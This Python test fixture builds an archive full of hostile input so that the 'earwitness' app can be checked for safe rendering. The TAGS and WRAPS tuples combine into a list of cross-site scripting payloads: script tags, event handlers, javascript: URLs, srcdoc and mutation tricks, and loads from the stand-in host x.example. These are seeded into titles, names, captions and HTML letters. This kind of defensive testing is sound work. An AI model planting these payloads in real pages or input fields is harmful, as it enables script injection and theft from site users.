"""An archive in which every text that comes from outside tries to be code."""

from __future__ import annotations

import itertools
import json
from collections.abc import Sequence
from pathlib import Path

from earwitness import pipeline
from earwitness.entities.indexing import catch_up
from earwitness.errors import InputError
from earwitness.jobs.worker_functions import digest_transcript
from earwitness.model.archive import ArchivedItem, Source
from earwitness.model.media import Item, Person, RawDocument
from earwitness.model.transcript import Transcript
from earwitness.search.open import open_index
from earwitness.sources.feeds import read_feed
from earwitness.storage.engine import Database, open_database
from earwitness.storage.findings import put_digest
from earwitness.storage.items import put_item, put_state
from earwitness.storage.sources import poll_state, put_poll_state, put_source
from earwitness.storage.transcripts import put_passages, put_revision

CALLS = ("alert(1)", "fetch('//x.example')")
TAGS = (
    "<script>{call}</script>", "<ScRiPt src=//x.example/a.js></sCrIpT>", "<img src=x onerror={call}>", "<svg onload={call}>",
    "<svg><script>{call}</script></svg>", "<iframe src=javascript:{call}></iframe>", "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data=javascript:{call}></object>", "<embed src=javascript:{call}>", "<form action=//x.example><button>{call}</button></form>",
    "<base href=//x.example/>", "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<a href=javascript:{call}>here</a>",
    "<a href='data:text/html,<script>{call}</script>'>here</a>", "<a href=' java\tscript:{call}'>here</a>", "<body onload={call}>",
    "<p style='background:url(javascript:{call})'>x</p>", "<details open ontoggle={call}>", "<video><source onerror={call}></video>",
    "<math><mtext></p><style><img src=x onerror={call}></style></mtext></math>", "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<!--><script>{call}</script-->", "<![CDATA[><script>{call}</script>]]>", "<template><script>{call}</script></template>",
    "<input autofocus onfocus={call}>", "<marquee onstart={call}>x</marquee>", "<link rel=stylesheet href=//x.example/a.css>",
    "<style>@import '//x.example/a.css';</style>", "<audio src=x onerror={call}></audio>", "<button formaction=javascript:{call}>x</button>",
    "<isindex action=javascript:{call}>", "<portal src=//x.example></portal>",
)  # fmt: skip
WRAPS = (
    "{}", "\"'>{}", "</title></textarea></style></script>{}", "{{{{ {} }}}}", "]]>{}", "&lt;b&gt;{}", "--> {}", "\\u003cb\\u003e{}",
)  # fmt: skip
"""Ways out of where the text is put: attributes, raw text, templates, comments, sections."""


def payloads() -> list[str]:
    """Every tag in every way out, with a mark to find it by."""
    result = [wrap.format(tag.format(call=call)) for wrap, tag, call in itertools.product(WRAPS, TAGS, CALLS)]
    return list(dict.fromkeys(result))


def hostile(database: Database) -> int:
    """Fills an archive with all payloads in titles, people, sources, speakers, words, letters, reasons; gives how many there are."""
    forms = payloads()
    source = Source(id="5" * 16, url="https://x.example/feed.xml", kind="feed", title=forms[3], site_url="javascript:alert(1)")
    with database.write() as connection:
        put_source(connection, source, now_ms=1)
        state = poll_state(connection, source.id)
        put_poll_state(connection, source.id, state.model_copy(update={"failures": 3, "last_error": forms[4]}))
        for at, form in enumerate(forms[::16]):
            failed = Item(
                id=f"{at:016x}",
                title=form,
                source=form,
                kind="podcast",
                url="javascript:alert(1)",
                people=(Person(name=form, role="host"),),
            )
            put_item(connection, ArchivedItem(item=failed, source_id=source.id, guid=f"failed {at}", first_seen_ms=at))
            put_state(connection, failed.id, "failed", form)
    documents = [_captions(forms[at : at + SHARE]) for at in range(0, len(forms), SHARE)]
    documents += [_letter(forms[at : at + LETTER_SHARE]) for at in range(0, len(forms), LETTER_SHARE)]
    read = 0
    for at, document in enumerate(documents):
        try:
            result = pipeline.digest(document, pipeline.Tools.standard())
        except InputError:  # a letter that is code to its end holds no article; what it does is told by the readers' own tests
            continue
        read += 1
        changes = {"id": f"{0xABC000 + at:016x}", "title": forms[at], "source": forms[-1 - at], "url": JS}
        _store(database, result.digest.item.model_copy(update=changes), result.transcript, source)
    assert read >= 0.8 * len(documents)
    catch_up(database, now_ms=2)
    return len(forms)


def _store(database: Database, item: Item, transcript: Transcript, source: Source) -> None:
    """Writes an item as sync does."""
    digest, index = digest_transcript(item, transcript), open_index(database)
    with database.write() as connection:
        put_item(connection, ArchivedItem(item=item, source_id=source.id, guid=item.id, first_seen_ms=1, enclosure_url=JS))
        revision = put_revision(connection, item.id, transcript)
        put_digest(connection, item.id, revision, digest, stage_version="1")
        put_passages(connection, item.id, transcript)
        index.add(connection, item.id)
        put_state(connection, item.id, "digested")


SHARE, LETTER_SHARE = 64, 8
"""Payloads in one transcript, and in one letter."""
JS = "javascript:alert(1)"
PROSE = (
    "The council of Norrby Corp met on Tuesday to talk about the mill and its people. It said that the price of timber will rise by "
    "12 percent in 2031, and that the harbour needs new cranes. Nobody knew who is to pay for them, and the meeting went on until late."
)


def _captions(forms: list[str]) -> RawDocument:
    """Captions in which a speaker of such a name says such words about a company of such a name."""
    cues = []
    for at, form in enumerate(forms):
        name = form.replace("\n", " ").replace("-->", "→")
        words = (
            f"Norrby {name} Corp said that sales will rise by {at + 3} percent in 2031, because the mill grows. We must learn from that."
        )
        cues.append(f"{_time(at * 8)} --> {_time(at * 8 + 7)}\n<v Ada {name[:60].replace('>', '&gt;').replace('<', '&lt;')}>{words}")
    return RawDocument(("WEBVTT\n\n" + "\n\n".join(cues) + "\n").encode(), "hostile.podcast.vtt")


def _letter(forms: list[str]) -> RawDocument:
    """A letter in HTML, as newsletters come."""
    parts = (f"<h2>Part {at}</h2><p>{PROSE}</p><p>Norrby said {form} to us.</p><p>{PROSE}</p>" for at, form in enumerate(forms))
    page = f"<!doctype html><html><head><title>Letter</title></head><body><h1>A letter</h1><p>{PROSE}</p>{''.join(parts)}</body></html>"
    return RawDocument(page.encode(), "hostile.newsletter.html")


def _time(seconds: int) -> str:
    return f"{seconds // 3600:02}:{seconds // 60 % 60:02}:{seconds % 60:02}.000"


def put_feeds(database: Database, files: Sequence[Path]) -> tuple[int, list[str]]:
    """Puts the entries of feeds in an archive; gives how many there are, and the ids of those that could be read as letters."""
    source = Source(id="5" * 16, url="https://x.example/feed.xml", kind="feed", title="Hostile")
    with database.write() as connection:
        put_source(connection, source, now_ms=1)
    count, ids = 0, []
    for file in files:
        for entry in read_feed(RawDocument(file.read_bytes(), file.name)).entries:
            count += 1
            body = (
                f"<!doctype html><html><body><h1>x</h1><p>{PROSE}</p>{entry.content_html or entry.summary_html}<p>{PROSE}</p></body></html>"
            )
            try:
                result = pipeline.digest(RawDocument(body.encode("utf-8", "replace"), "hostile.newsletter.html"), pipeline.Tools.standard())
            except InputError:
                continue
            changes = {"id": f"{count:016x}", "title": entry.title or file.name, "url": entry.url, "source": entry.title or file.name}
            _store(database, result.digest.item.model_copy(update=changes), result.transcript, source)
            ids.append(f"{count:016x}")
    return count, ids


def hostile_archive(home: Path) -> None:
    """Write an archive with every payload into a home folder."""
    database = open_database(f"sqlite:///{home / 'earwitness.db'}")
    hostile(database)
    database.close()


def feed_archive(home: Path, files: Sequence[Path]) -> None:
    """Write an archive of feeds into a home folder, with the number of their entries and the ids of the items in `entries.json`."""
    database = open_database(f"sqlite:///{home / 'earwitness.db'}")
    entries, ids = put_feeds(database, files)
    database.close()
    (home / "entries.json").write_text(json.dumps([entries, list(ids)]))
